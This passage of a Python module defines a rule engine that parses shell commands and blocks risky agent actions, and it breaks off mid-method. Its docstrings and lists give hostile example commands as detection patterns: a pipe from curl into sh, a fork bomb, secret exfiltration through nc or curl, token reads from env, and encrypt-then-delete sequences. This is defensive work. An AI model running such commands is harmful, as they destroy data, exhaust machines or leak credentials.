"""The ``shell`` kind: declarative rules over what a shell command actually runs.

The command is parsed with :mod:`specialists.shellparse`, which finds every simple command
that would run however it is wrapped (``sh -c``, ``eval``, ``$(...)``, ``xargs``, ``find
-exec``, ``base64 -d | sh``, ``python -c``...) and expands its words from what the command
line says (``D=/; rm -rf $D``, ``"$UNSET/"``, ``~``, ``..``, ``cd``). Each rule is a
conjunction of conditions on one of those commands; a rule matches when some command
satisfies all of its conditions, and the entry objects with the strongest matching rule.

Example entry config (recursive deletes outside the workspace)::

    rules:
      - name: recursive delete
        program: [rm, rmdir]
        flags_any: [r, R, recursive]
        target: outside_workspace
      - program: [find]
        flags_any: [delete]
        target: outside_workspace
    verdict_when_fallback: block

Conditions (all optional, but a rule needs at least one that names what it is about):

- ``program``: program names or globs (``rm``, ``mkfs*``); the basename, after prefixes
  such as ``sudo``/``env``/``timeout`` are stripped.
- ``subcommand``: words that must appear in order among the first positionals
  (``destroy``, ``delete namespace``, ``system prune``); a word may be a glob
  (``delete-*``, ``*:destroy``).
- ``flags_any`` / ``flags_all`` / ``flags_none``: normalised options: ``r`` for ``-r`` (also
  inside ``-rf``), ``recursive`` for ``--recursive``.
- ``args_any`` / ``args_none``: globs over the words after the program (``-1``, ``777``,
  ``of=/dev/*``, ``--no-verify``).
- ``target``: ``outside_workspace`` (a positional path not strictly inside the workspace or
  a scratch directory), ``root_or_home`` (the filesystem root, a top-level or system
  directory, the home directory or a parent of it, the workspace itself or a parent of it),
  ``unsafe_expansion`` (a word used an unset variable or an unquoted expansion split into
  several words), ``unknown`` (a word's value depends on another command's output).
- ``paths_any`` / ``paths_none``: path globs over the resolved positionals and input
  redirections (``**/.env``, ``~/.ssh/**``). An unexpanded glob word (``cat .en?``) matches
  when some name it could expand to would (:meth:`PathGlobs.could_match`). ``scratch_none``:
  a path in a scratch directory (``/tmp``, ``$TMPDIR``) outside the workspace does not count;
  ``named_paths``: only paths named one by one count, not a bulk selection (a glob, a
  filtered ``find``, ``xargs`` input).
- ``redirects_any``: path globs over resolved output-redirection targets (``~/.bashrc``);
  with ``redirects_replace``, only redirections that replace the content (``>``, ``&>``,
  not ``>>``, which keeps it).
- ``prefixes_any``: wrappers the command runs under (``sudo``, ``doas``).
- ``assignments_any``: ``NAME`` or ``NAME=value`` globs over variables set for the command
  or earlier on the line (``HUSKY=0``, ``NODE_TLS_REJECT_UNAUTHORIZED=0``).
- ``variables_any``: globs over the names of variables the command's words reference
  (``echo $OPENAI_API_KEY``: the value is unknown, the name is not).
- ``piped_into_none``: ``PROGRAM [WORD-GLOB...]`` items; the rule does not match a command
  whose output is piped straight into such a command (``echo $TOKEN | docker login
  --password-stdin`` hands the secret to a program that reads it from stdin: nothing is
  printed). Every word glob must match a word of that command. A command further down the
  pipeline counts too (``env | sort | grep PATH``).
- ``pipe_into_shell``: the command is an interpreter running code it reads from another
  command (``curl x | sh``, ``bash <(curl x)``, ``sh -c "$(curl x)"``); ``code_from``
  restricts which programs that code may come from.
- ``piped_into_any``: only when the output is piped into such a command, next or further
  down the pipeline (``env | grep *TOKEN*``, ``env | sort | grep *TOKEN*``).
- ``self_call``: the command calls the shell function it runs inside, piped into or from
  another call of it (a fork bomb, ``:(){ :|:& };:``, whatever the function is named or
  however the line is wrapped).
- ``effects_any`` / ``classes_any``: what the command does to a path (``read``, ``write``,
  ``delete``) and the class of that path (``system``, ``credential``, ``startup``,
  ``unknown``...; :mod:`specialists.understand`), whatever program or language does it.
  Such a rule needs no ``program``. ``sends``: the read path goes over the network (the
  command sends it, pipes it into a sender, or its output lands in a sender's URL).
  ``selection_only``: only a path that stands for a selection (a glob, what ``find`` or
  ``xargs`` passes on, a loop over a glob, another command's output); ``then_deleted``: only a
  path that a later command of the line deletes (the originals replaced by what this command
  wrote: encrypted or packed copies).
- ``signals_any`` / ``privileges_any``: the processes the command signals, by how they
  are named (``every``, ``init``, ``name``...; :mod:`specialists.understand.processes`,
  ``os.kill(-1, 9)`` in Python too), or what it changes of who may do what (``setuid``,
  ``admin``, ``sudoers``...; :mod:`specialists.understand.privilege`). Such a rule needs no
  ``program``.
- ``defences_any`` / ``credentials_any``: a defence the command takes away (antivirus,
  firewall, UAC, script policy, history, a cloud audit trail, a rule or bucket opened to
  anyone) or a credential it takes from the machine that is not a file (a metadata token, a
  secret key exported, the account hives, the credential manager);
  :mod:`specialists.understand.defences`. Such a rule needs no ``program``.
- ``host``: ``this`` or ``another``: only commands run on this host, or only those run on
  another (``ssh h CMD``, the far side of an ``scp``/``rsync`` to ``h:path``).
- ``task_any`` / ``task_none``: RE2 patterns over the user's request: only while it asks for
  something (the tests to pass), and not when it also says something else (to skip them).
  ``arg_pairs_any``: an option and its value as two adjacent words (``-x test``).
  ``status_ignored``: the command's failure is taken as success where it is written (``go
  test ./... || true``, ``|| :``, ``|| exit 0``, ``|| echo …``).
- ``excused_by`` (per rule or for the whole config): facts that make a match fine (a test
  environment, a container, a local emulator's endpoint, every URL on the line being one
  of a list: a vendor's own installer): the objection becomes a flag that says why.

File tools are judged too: ``file_write``/``file_edit`` (``path``, or the files a ``diff``
names) as a write, ``file_delete`` as a delete, ``file_read`` as a read, so effect rules
treat a file tool and a shell command alike; with ``written_programs``, a program a file
tool writes is also judged as the command that runs it (with ``written_paths``, only the files
those globs name: an entry about CI files); with ``image_builds``, the ``RUN`` lines a change
adds to a Dockerfile (:mod:`specialists.understand.dockerfiles`) are judged as the commands
the image build runs. An entry may have no rules and only
``verdict_when_truncated``: it is then about commands too large or nested too deep to read.
"""

from __future__ import annotations

import json
import posixpath
import shlex
import textwrap
import threading
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from functools import lru_cache
from itertools import pairwise
from typing import TYPE_CHECKING, Annotated, Final, Literal, TypeVar, final

import re2
from pydantic import AfterValidator, Field, JsonValue, ValidationInfo, model_validator

from specialists._memo import PerCommand
from specialists.shellparse import (
    DEFAULT_MAX_CHARS,
    ParsedShell,
    SimpleCommand,
    command_of,
    find_filtered,
    parse_for,
    preload,
    resolve_path,
)
from specialists.understand import (
    PathClass,
    PathClassName,
    Where,
    classify,
    describe,
    diff_paths,
)
from specialists.understand.changes import Change as FileChange
from specialists.understand.changes import applied, file_changes
from specialists.understand.defences import (
    CredentialTaken,
    Defence,
    DefenceOff,
    Taken,
    credentials_taken,
    defences_off,
)
from specialists.understand.dockerfiles import build_commands, is_build_file
from specialists.understand.effects import PathEffect, path_effects_of
from specialists.understand.globs import (
    GLOB_CHARS,
    WordGlobs,
    is_within,
    path_globs,
    word_globs,
)
from specialists.understand.inspection import only_inspects
from specialists.understand.network import command_targets
from specialists.understand.paths import (
    DEFAULT_SCRATCH,
    MOUNT_ROOTS,
    SINKS,
    SYSTEM_ROOTS,
    holds_credentials,
    in_scratch,
)
from specialists.understand.pipelines import ci_commands
from specialists.understand.privilege import Change, PrivilegeChange, privilege_changes
from specialists.understand.processes import ProcessSignal, Scope, signals_of
from specialists.understand.shellwrites import shell_writes
from specialists.understand.transfers import TRANSFER_PROGRAMS, transfers
from supervisor.hookspecs import hookimpl
from supervisor.models import Action, Context, SpecialistResult, Verdict
from supervisor.specialist import Execution, KindConfig, SpecialistKind, checked_before, empty_list

if TYPE_CHECKING:
    from supervisor.taxonomy import Entry

__all__ = [
    "ShellConfig",
    "ShellRule",
    "ShellSpecialist",
    "image_build_commands",
    "supervisor_register_kinds",
    "task_commands",
    "written_commands",
    "written_program_of",
]

KIND_NAME: Final = "shell"
# Programs that copy their input elsewhere as they pass it on.
_COPIES: Final = frozenset({"tee", "Tee-Object", "tee-object"})
KIND_VERSION: Final = "1"
MAX_CHARS_LIMIT: Final = 1_048_576
# Paths that are fine to name anywhere: sinks and the terminal.
_SINKS: Final = SINKS
# Where a recursive delete is catastrophic: the system, and every user's home.
_SYSTEM_ROOTS: Final = (*SYSTEM_ROOTS, *MOUNT_ROOTS, "/root", "/home", "/Users")
TEXT_CAP: Final = 200
REASON_CAP: Final = 120

Target = Literal["outside_workspace", "root_or_home", "unsafe_expansion", "unknown"]
Effect = Literal["read", "write", "delete"]
# Programs that send what they read over the network (a file given to them, or their stdin;
# ssh hands its stdin to the remote command).
SENDERS: Final = frozenset(
    {
        "curl", "wget", "http", "https", "xh", "httpie", "nc", "ncat", "netcat", "socat",
        "telnet", "scp", "sftp", "rsync", "ftp", "tftp", "rclone", "s3cmd", "openssl",
        "Invoke-WebRequest", "Invoke-RestMethod", "iwr", "irm", "smbclient", "sendmail", "mail",
        "mutt", "swaks", "ssh",
    }
)  # fmt: skip
# Programs that pass what they read on, whole or transformed (compressed, encoded,
# encrypted, cut into pieces): what goes into them still leaves through a sender after them.
CARRIERS: Final = frozenset(
    {
        "cat", "tee", "gzip", "bzip2", "xz", "zstd", "lz4", "lzma", "compress", "pigz",
        "base64", "base32", "basenc", "xxd", "od", "hexdump", "openssl", "gpg", "age", "tr",
        "rev", "split", "sed", "awk", "gawk", "cut", "head", "tail", "sort", "uniq", "tar",
        "zip", "cpio", "pv", "dd", "buffer", "mbuffer", "iconv", "fold", "paste", "column",
    }
)  # fmt: skip
_VERBS: Final = {"read": "reads", "write": "writes", "delete": "deletes"}
Strength = Literal["flag", "nudge", "block"]


def _check_word_glob(glob: str, info: ValidationInfo) -> str:
    if not glob:
        raise ValueError("an empty glob matches nothing")
    if not checked_before(info):  # else it compiled when cached
        word_globs((glob,)).check()
    return glob


def _check_path_glob(glob: str, info: ValidationInfo) -> str:
    if not checked_before(info):
        path_globs((glob,)).check()
    return glob


def _flag_name(flag: str) -> str:
    """``-r`` -> ``r``, ``--recursive`` -> ``recursive``; ``-rf`` is refused."""
    if flag.startswith("--"):
        name = flag[2:]
    elif flag.startswith("-"):
        name = flag[1:]
        if len(name) != 1:
            raise ValueError(
                f"{flag!r} looks like combined short flags: list each one ({', '.join(name)}); "
                "write long flags with two dashes or none"
            )
    else:
        name = flag
    if not name or any(c in name for c in " =\t"):
        raise ValueError(f"{flag!r} is not a flag name (write r, R or recursive)")
    return name


def _check_consumer(item: str, info: ValidationInfo) -> str:
    words = item.split()
    if not words:
        raise ValueError("a piped_into_none item names at least a program")
    if not checked_before(info):  # else it compiled when cached
        word_globs(tuple(words)).check()
    return " ".join(words)


def _check_task_pattern(pattern: str, info: ValidationInfo) -> str:
    if checked_before(info):  # it compiled when cached
        return pattern
    try:
        re2.compile(pattern)
    except re2.error as exc:
        raise ValueError(f"not an RE2 pattern: {pattern!r} ({exc})") from exc
    return pattern


def _check_arg_pair(item: str, info: ValidationInfo) -> str:
    parts = item.split()
    if len(parts) != 2:
        raise ValueError(f"an argument pair is two word globs, an option and its value: {item!r}")
    for part in parts:
        _check_word_glob(part, info)
    return item


def _check_subcommand(words: str, info: ValidationInfo) -> str:
    if not words.split():
        raise ValueError("a subcommand must have at least one word")
    if not checked_before(info):  # a glob word compiles (its rule compiles it when first asked)
        for word in words.split():
            _SubWord(word, lazy=False)
    return " ".join(words.split())


def _check_scratch(path: str) -> str:
    if not path.startswith("/"):
        raise ValueError(f"scratch directory {path!r} must be an absolute path")
    return resolve_path(path, None, None)


WordGlob = Annotated[str, AfterValidator(_check_word_glob)]
PathGlob = Annotated[str, AfterValidator(_check_path_glob)]
FlagName = Annotated[str, AfterValidator(_flag_name)]
Subcommand = Annotated[str, AfterValidator(_check_subcommand)]
Consumer = Annotated[str, AfterValidator(_check_consumer)]
TaskPattern = Annotated[
    str, Field(min_length=1, max_length=500), AfterValidator(_check_task_pattern)
]
ArgPair = Annotated[str, AfterValidator(_check_arg_pair)]


class Excuse(KindConfig):
    """A fact that makes a matched command fine: its objection becomes a flag that says why.

    Every condition given must hold. ``environments``: ``context.environment`` is one of
    these (case-insensitive: ``test``, ``development``, ``ci``); ``args_any``: a word of the
    command matches (``--endpoint-url=http://localhost*``, ``kind-*``); ``assignments_any``: a
    variable set on the line (``AWS_ENDPOINT_URL=http://localhost*``); ``urls_all``: the line
    names at least one URL, and every URL written anywhere in it (any command, at any depth)
    matches one of these (``https://sh.rustup.rs``: the vendor's own installer); ``reason``:
    the words for the reason (``a local emulator``).
    """

    environments: list[Annotated[str, Field(min_length=1, max_length=40)]] = Field(
        default_factory=empty_list
    )
    container: bool | None = None
    args_any: list[WordGlob] = Field(default_factory=empty_list)
    assignments_any: list[WordGlob] = Field(default_factory=empty_list)
    urls_all: list[WordGlob] = Field(default_factory=empty_list, max_length=200)
    reason: str = Field(min_length=1, max_length=200)

    @model_validator(mode="after")
    def _says_something(self) -> Excuse:
        if not (
            self.environments
            or self.args_any
            or self.assignments_any
            or self.urls_all
            or self.container is not None
        ):
            raise ValueError(
                "an excuse needs environments, container, args_any, assignments_any or urls_all"
            )
        return self


class ShellRule(KindConfig):
    """One rule: every condition given must hold for one command.

    Attributes:
        name: a short label for the evidence (``recursive delete``).
        program: program names or globs (basename, prefixes stripped).
        program_none: not when the program is one of these (names or globs): ``chmod`` and
            ``chown`` change who may use a file, not what it holds.
        subcommand: word sequences, any of which must appear in order among the first
            positionals (``destroy``, ``delete namespace``); a word may be a glob
            (``delete-*``).
        flags_any, flags_all, flags_none: normalised flag names.
        args_any, args_none: globs over the words after the program.
        target: a condition on the positionals' resolved paths or on how they expanded.
        paths_any, paths_none: path globs over resolved positionals and input redirections.
        scratch_none: a path in a scratch directory outside the workspace does not count.
        named_paths: ``paths_any`` counts only paths named one by one, not a bulk selection
            (a glob, what a filtered ``find`` passes on, ``xargs`` input).
        redirects_any: path globs over resolved output-redirection targets.
        redirects_replace: only redirections that replace what the target held (``>``,
            ``>|``, ``&>``), not those that append to it (``>>``).
        prefixes_any: wrapper names the command must run under (``sudo``).
        assignments_any: ``NAME`` / ``NAME=value`` globs over variables set on the line.
        variables_any: globs over the names of variables the command's words reference
            (``*_KEY``, ``*TOKEN*``): their values are not known, their names are.
        piped_into_any: ``PROGRAM [WORD-GLOB...]``: only when the output is piped into such a
            command (``env | grep *TOKEN*``).
        piped_into_none: ``PROGRAM [WORD-GLOB...]``: not when the output is piped into such
            a command (one that reads a secret from stdin).
        with_any: ``PROGRAM [WORD-GLOB...]``: only when another command of the same line is
            such a command (``git commit``: snapshots rewritten and committed in one go).
        task_named: only when the word ``args_any`` matched (with its value, for an option
            given as two words) names what the user's request (``context.task``) is about:
            ``pytest -k 'not checkout'`` when the task is to fix the checkout tests.
        task_any, task_none: RE2 patterns over the user's request (``context.task``, lower
            case): only when one matches (a request to make the tests pass), and not when
            one of ``task_none`` does (a request that says to skip them); no request, no
            match for ``task_any``.
        arg_pairs_any: ``OPTION-GLOB VALUE-GLOB`` items: two adjacent words, an option and
            its value (``-x test``: Gradle told to exclude its test task).
        status_ignored: the command's failure is taken as success: its text is followed by
            ``|| true``, ``|| :``, ``|| exit 0`` or ``|| echo …`` on the line (or in a text
            the line runs), so whoever reads the exit status sees success.
        pipe_into_shell: the command runs code it reads from another command.
        self_call: the command calls the shell function it runs inside and pipes into or from
            another call of it (``:(){ :|:& };:``, whatever the function is named): each
            call starts two more, without end.
        code_from: program globs that code must come from (with ``pipe_into_shell``).
        effects_any: what the command does to a path (``read``, ``write``, ``delete``), by
            any program the parser knows (redirections, ``rm``, ``cp``, ``tee``, ``curl -d
            @f``, Python's ``open``...), whatever its spelling.
        classes_any: the class of that path (:class:`~specialists.understand.PathClass`:
            ``system``, ``credential``, ``startup``, ``unknown``...).
        sends: the command sends what it reads over the network (``curl -T f``, ``nc host
            < f``), or its output is piped into a program that does (``cat f | nc h p``).
        selection_only: the effect's path stands for a selection, not a file named one by
            one: a glob, what a filtered ``find`` or ``xargs`` passes on, a loop variable over
            a glob, another command's output (``$(find …)``).
        then_deleted: a later command of the same line deletes the effect's path (``openssl
            enc -in "$f" -out "$f.enc" && rm "$f"``): the originals are replaced.
        output_sent: the command's output is piped, directly or through carriers (gzip,
            base64, tar...), into a program that sends it over the network (``pg_dump db |
            gzip | curl -T - URL``, ``mysqldump db | ssh host 'cat > x'``).
        inspects_none: not when the command only lists, shows or checks, changing nothing
            (:func:`~specialists.understand.inspection.only_inspects`: ``ufw status``,
            ``iptables -L``, ``visudo -c``; for a rule about running as root).
        signals_any: the command signals processes named so (:data:`Scope`: ``every``,
            ``init``, ``group``, ``name``, ``pattern``, ``user``, ``unit``...); a probe
            (signal 0) signals nothing.
        defences_any: the command takes such a defence away (:data:`Defence`:
            ``antivirus``, ``firewall``, ``uac``, ``script_policy``, ``history``, ``audit``,
            ``exposure``; :func:`~specialists.understand.defences.defences_off`).
        credentials_any: the command takes such a credential from the machine (:data:`Taken`:
            ``metadata_token``, ``key_export``, ``account_hive``, ``credential_store``).
        privileges_any: the command makes such a change (:data:`Change`: ``elevate``,
            ``shell``, ``setuid``, ``account``, ``admin``, ``sudoers``, ``service``).
        host: ``this`` or ``another``: the rule counts only commands that run on this host,
            or only those that run on another (``ssh h CMD``, the far side of ``scp``/``rsync``
            to a ``host:path``); unset, both.
        excused_by: facts that make a match fine (:class:`Excuse`): a test environment, a
            local emulator's endpoint; the objection becomes a flag that names the excuse.
        verdict: this rule's verdict; the config's ``verdict``, else the entry default.
        correction: what the agent should do instead (overrides the generated one).
    """

    name: str | None = Field(default=None, max_length=100)
    program: list[WordGlob] = Field(default_factory=empty_list)
    program_none: list[WordGlob] = Field(default_factory=empty_list)
    subcommand: list[Subcommand] = Field(default_factory=empty_list)
    flags_any: list[FlagName] = Field(default_factory=empty_list)
    flags_all: list[FlagName] = Field(default_factory=empty_list)
    flags_none: list[FlagName] = Field(default_factory=empty_list)
    args_any: list[WordGlob] = Field(default_factory=empty_list)
    args_none: list[WordGlob] = Field(default_factory=empty_list)
    target: Target | None = None
    paths_any: list[PathGlob] = Field(default_factory=empty_list)
    paths_none: list[PathGlob] = Field(default_factory=empty_list)
    scratch_none: bool = False
    named_paths: bool = False
    redirects_any: list[PathGlob] = Field(default_factory=empty_list)
    redirects_replace: bool = False
    prefixes_any: list[WordGlob] = Field(default_factory=empty_list)
    assignments_any: list[WordGlob] = Field(default_factory=empty_list)
    variables_any: list[WordGlob] = Field(default_factory=empty_list)
    piped_into_none: list[Consumer] = Field(default_factory=empty_list, max_length=100)
    piped_into_any: list[Consumer] = Field(default_factory=empty_list, max_length=100)
    pipe_into_shell: bool = False
    self_call: bool = False
    code_from: list[WordGlob] = Field(default_factory=empty_list)
    effects_any: list[Effect] = Field(default_factory=empty_list)
    classes_any: list[PathClassName] = Field(default_factory=empty_list)
    sends: bool = False
    selection_only: bool = False
    then_deleted: bool = False
    inspects_none: bool = False
    output_sent: bool = False
    signals_any: list[Scope] = Field(default_factory=empty_list)
    privileges_any: list[Change] = Field(default_factory=empty_list)
    defences_any: list[Defence] = Field(default_factory=empty_list)
    credentials_any: list[Taken] = Field(default_factory=empty_list)
    host: Literal["this", "another"] | None = None
    with_any: list[Consumer] = Field(default_factory=empty_list, max_length=20)
    task_named: bool = False
    task_any: list[TaskPattern] = Field(default_factory=empty_list, max_length=20)
    task_none: list[TaskPattern] = Field(default_factory=empty_list, max_length=20)
    arg_pairs_any: list[ArgPair] = Field(default_factory=empty_list, max_length=50)
    status_ignored: bool = False
    excused_by: list[Excuse] = Field(default_factory=empty_list, max_length=20)
    verdict: Strength | None = None
    correction: str | None = Field(default=None, min_length=1, max_length=1000)

    @model_validator(mode="after")
    def _says_what_it_is_about(self) -> ShellRule:
        if not (
            self.program
            or self.prefixes_any
            or self.assignments_any
            or self.variables_any
            or self.redirects_any
            or self.paths_any
            or self.pipe_into_shell
            or self.self_call
            or self.effects_any
            or self.classes_any
            or self.signals_any
            or self.privileges_any
            or self.defences_any
            or self.credentials_any
        ):
            raise ValueError(
                "a rule needs program, prefixes_any, assignments_any, variables_any, "
                "redirects_any, paths_any, pipe_into_shell, self_call, effects_any, "
                "classes_any, signals_any, privileges_any, defences_any or credentials_any: "
                "otherwise it is about every command"
            )
        if self.sends and not (self.effects_any or self.classes_any):
            raise ValueError("sends is about what is sent: give effects_any or classes_any")
        if (self.selection_only or self.then_deleted) and not self.effects_any:
            raise ValueError(
                "selection_only and then_deleted are about an effect's path: give effects_any"
            )
        if self.subcommand and not self.program:
            raise ValueError("subcommand needs program: a subcommand of which program?")
        if self.code_from and not self.pipe_into_shell:
            raise ValueError("code_from only applies with pipe_into_shell: true")
        if self.paths_none and not (self.paths_any or self.target or self.effects_any):
            raise ValueError("paths_none exempts paths: give paths_any or target as well")
        return self


class ShellConfig(KindConfig):
    """Config of a ``shell`` entry.

    Attributes:
        rules: the rules; the entry objects with the strongest one that matches (none: the
            entry is only about commands that cannot be read whole).
        scratch: absolute directories outside the workspace where writes and deletes are
            fine (below them, not the directories themselves). ``$TMPDIR`` from the
            context's ``env`` is added when ``use_tmpdir`` is set.
        use_tmpdir: add ``context.env["TMPDIR"]`` to ``scratch``.
        excused_by: excuses that hold for every rule (see :class:`Excuse`).
        verdict: verdict of rules without their own; the entry default when unset.
        verdict_when_fallback: verdict of a match found in a command that did not parse
            (tokenized conservatively); unset keeps the rule's verdict.
        verdict_when_truncated: verdict when nothing matched but the command was too
            large or too deeply nested to read whole; unset means no objection.
        max_chars: the command is cut here before parsing.
        written_programs: a file tool's write of a program (``x.py``, ``x.sh``, a ``#!``
            line...) is also judged as running it, and a rule it would match when run gets
            at most this verdict: code that would send the user's keys somewhere is refused
            when it is written, not only when it runs (unset: writes are judged as writes).
        written_max_chars: a written program longer than this is judged when it runs, not
            when it is written (reading a large module costs tens of milliseconds; the
            programs that send a key or open a shell are short).
        written_paths: with ``written_programs``, only files whose path matches one of these
            globs are judged as run (``.github/workflows/*.yml``: an entry about what a CI
            runner does with its secrets); unset, every program a file tool writes.
        written_only: the rules judge only what the action writes to run later, never the
            action itself (an entry about what a CI runner does, which the same command
            typed in the shell is not).
        image_builds: the ``RUN`` instructions a change adds to a container build file (a
            Dockerfile written or edited by a file tool, or appended to from the shell) are
            also judged as commands, and a rule they match gets at most this verdict. They
            run inside the image at build time, not on this machine: set it only on an
            entry about what code is (a download piped into a shell), never on one about
            paths (``rm -rf /var/lib/apt/lists/*`` is an image's clean-up).
    """

    rules: Annotated[list[ShellRule], Field(max_length=200)] = Field(default_factory=empty_list)
    scratch: list[Annotated[str, AfterValidator(_check_scratch)]] = Field(
        default_factory=lambda: list(DEFAULT_SCRATCH)
    )
    use_tmpdir: bool = True
    excused_by: list[Excuse] = Field(default_factory=empty_list, max_length=20)
    verdict: Strength | None = None
    verdict_when_fallback: Strength | None = None
    verdict_when_truncated: Strength | None = None
    max_chars: int = Field(default=DEFAULT_MAX_CHARS, gt=0, le=MAX_CHARS_LIMIT)
    written_programs: Strength | None = None
    written_max_chars: int = Field(default=16_384, gt=0, le=MAX_CHARS_LIMIT)
    written_paths: list[PathGlob] = Field(default_factory=empty_list, max_length=100)
    written_only: bool = False
    image_builds: Strength | None = None

    @model_validator(mode="after")
    def _judges_something(self) -> ShellConfig:
        if (self.written_paths or self.written_only) and self.written_programs is None:
            raise ValueError(
                "written_paths and written_only narrow written_programs: give written_programs"
            )
        if not self.rules and self.verdict_when_truncated is None:
            raise ValueError(
                "give at least one rule, or verdict_when_truncated for an entry about commands "
                "too large or too nested to read whole"
            )
        return self


# --------------------------------------------------------------------------------------
# Matching


@dataclass(frozen=True, slots=True)
class _Where:
    """What paths are judged against, for one evaluation."""

    workspace: str | None
    home: str | None
    scratch: tuple[str, ...]
    classes: Where


@dataclass(frozen=True, slots=True)
class _Hit:
    rule: _Rule
    command: SimpleCommand
    object: str
    detail: str  # what the rule saw, as words for the reason
    matched: str  # the flag, argument, path or program that matched
    missing: tuple[str, ...] = ()  # context facts whose value would excuse it, not known


def _cut(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _strip_broad_globs(path: str) -> str:
    """``/home/u/*`` -> ``/home/u``: a trailing component that matches everything."""
    while path != "/" and "/" in path:
        head, _, last = path.rpartition("/")
        if last and all(c in "*?.[]" for c in last) and ("*" in last or "?" in last):
            path = head or "/"
        else:
            break
    return path


def _critical(path: str, where: _Where) -> str | None:
    """Why deleting ``path`` would be catastrophic, or None."""
    p = _strip_broad_globs(path)
    if not p.startswith("/"):
        return None
    home = where.home
    if p == "/":
        return "the filesystem root"
    if home and p == home:
        return "the home directory"
    if home and is_within(home, p):
        return "a parent of the home directory"
    workspace = where.workspace
    if workspace and p == workspace:
        return "the workspace itself"
    if workspace and is_within(workspace, p):
        return "a parent of the workspace"
    if p.count("/") == 1:
        return "a top-level directory"
    if any(is_within(p, s) and p != s for s in where.scratch):
        return None
    if any(is_within(p, root) for root in _SYSTEM_ROOTS) and not (home and is_within(p, home)):
        return "a system directory"
    return None


def _unset_words(cmd: SimpleCommand) -> str:
    """How the variables that expanded to nothing are known to be unset."""
    if cmd.unknown_vars:
        return "has no known value (none was given, so it is read as unset)"
    return "is not set"


def _scratch_only(path: str, where: _Where) -> bool:
    """Whether ``path`` is in a scratch directory and not in the workspace."""
    if where.workspace is not None and is_within(path, where.workspace):
        return False
    return any(is_within(path, scratch) for scratch in where.scratch)


def _outside(path: str, where: _Where, filtered: bool = False) -> str | None:
    """Why ``path`` is outside the workspace (and scratch), or None when it is not.

    The workspace root itself counts as outside (deleting it loses the repository) unless
    ``filtered``: the command only deletes what matches below it (``find . -name x -delete``).
    """
    p = _strip_broad_globs(path)
    if not p.startswith("/") or p in _SINKS:
        return None
    if in_scratch(p, where.home, where.scratch):
        return None
    workspace = where.workspace
    if workspace is None:
        return "outside the workspace (no workspace known)"
    if p == workspace and not filtered:
        return f"the whole workspace {workspace}"
    if is_within(p, workspace):
        return None
    critical = _critical(p, where)
    suffix = f"; {critical}" if critical else ""
    return f"outside the workspace {workspace}{suffix}"


@final
class _Rule:
    """A compiled :class:`ShellRule`."""

    __slots__ = (
        "any_program",
        "arg_pairs",
        "args_any",
        "args_none",
        "assignments_any",
        "classes",
        "code_from",
        "correction",
        "credentials",
        "defences",
        "effects",
        "elsewhere",
        "excuses",
        "flags_all",
        "flags_any",
        "flags_none",
        "index",
        "inspects_none",
        "label",
        "named_paths",
        "output_sent",
        "paths_any",
        "paths_none",
        "pipe",
        "piped_into_any",
        "piped_into_none",
        "prefixes_any",
        "privileges",
        "program_globs",
        "program_none",
        "programs",
        "redirects_any",
        "redirects_replace",
        "scratch_none",
        "selection_only",
        "self_call",
        "sends",
        "signals",
        "status_ignored",
        "subcommands",
        "target",
        "task_any",
        "task_named",
        "task_none",
        "then_deleted",
        "variables_any",
        "verdict",
        "with_any",
    )

    def __init__(
        self, index: int, rule: ShellRule, default: Verdict, shared: Sequence[Excuse] = ()
    ) -> None:
        self.index = index
        self.label = rule.name or (
            " ".join(rule.program[:3]) if rule.program else f"rule {index + 1}"
        )
        wild = [p for p in rule.program if any(c in p for c in "*?[")]
        self.programs = frozenset(p for p in rule.program if p not in wild)
        self.program_globs = word_globs(tuple(wild)) if wild else None
        self.any_program = not self.programs and self.program_globs is None
        self.program_none = word_globs(tuple(rule.program_none)) if rule.program_none else None
        self.subcommands = tuple(
            tuple(_SubWord(w) for w in words.split()) for words in rule.subcommand
        )
        self.flags_any = frozenset(rule.flags_any)
        self.flags_all = frozenset(rule.flags_all)
        self.flags_none = frozenset(rule.flags_none)
        self.args_any = word_globs(tuple(rule.args_any))
        self.args_none = word_globs(tuple(rule.args_none))
        self.target = rule.target
        self.paths_any = path_globs(tuple(rule.paths_any))
        self.paths_none = path_globs(tuple(rule.paths_none))
        self.scratch_none = rule.scratch_none
        self.named_paths = rule.named_paths
        self.redirects_any = path_globs(tuple(rule.redirects_any))
        self.redirects_replace = rule.redirects_replace
        self.prefixes_any = word_globs(tuple(rule.prefixes_any))
        self.assignments_any = word_globs(tuple(rule.assignments_any))
        self.variables_any = word_globs(tuple(rule.variables_any))
        self.pipe = rule.pipe_into_shell
        self.self_call = rule.self_call
        self.piped_into_none = _consumers(rule.piped_into_none)
        self.piped_into_any = _consumers(rule.piped_into_any)
        self.with_any = _consumers(rule.with_any)
        self.task_named = rule.task_named
        self.task_any = (
            re2.compile("|".join(f"(?:{p})" for p in rule.task_any)) if rule.task_any else None
        )
        self.task_none = (
            re2.compile("|".join(f"(?:{p})" for p in rule.task_none)) if rule.task_none else None
        )
        self.status_ignored = rule.status_ignored
        self.arg_pairs = tuple(
            (word_globs((first,)), word_globs((second,)))
            for first, second in (item.split() for item in rule.arg_pairs_any)
        )
        self.code_from = word_globs(tuple(rule.code_from))
        self.effects = frozenset(rule.effects_any)
        self.classes = frozenset(PathClass(c) for c in rule.classes_any)
        self.sends = rule.sends
        self.selection_only = rule.selection_only
        self.then_deleted = rule.then_deleted
        self.inspects_none = rule.inspects_none
        self.output_sent = rule.output_sent
        self.signals = frozenset(rule.signals_any)
        self.privileges = frozenset(rule.privileges_any)
        self.defences = frozenset(rule.defences_any)
        self.credentials = frozenset(rule.credentials_any)
        self.elsewhere = None if rule.host is None else rule.host == "another"
        self.excuses = tuple(
            (
                frozenset(e.lower() for e in excuse.environments),
                excuse.container,
                word_globs(tuple(excuse.args_any)),
                word_globs(tuple(excuse.assignments_any)),
                word_globs(tuple(excuse.urls_all)),
                excuse.reason,
            )
            for excuse in (*rule.excused_by, *shared)
        )
        self.verdict = Verdict(rule.verdict) if rule.verdict else default
        self.correction = rule.correction

    def wants(self, program: str) -> bool:
        if program in self.programs:
            return True
        return self.program_globs is not None and self.program_globs.match(program)

    def match(
        self, cmd: SimpleCommand, parsed: ParsedShell, where: _Where, context: Context
    ) -> _Hit | None:
        """The hit when ``cmd`` satisfies every condition of the rule."""
        if not self.any_program and not self.wants(cmd.program):
            return None
        if self.program_none is not None and self.program_none.match(cmd.program):
            return None
        if self.status_ignored and not _status_ignored(cmd, parsed):
            return None
        if self.task_any is not None or self.task_none is not None:
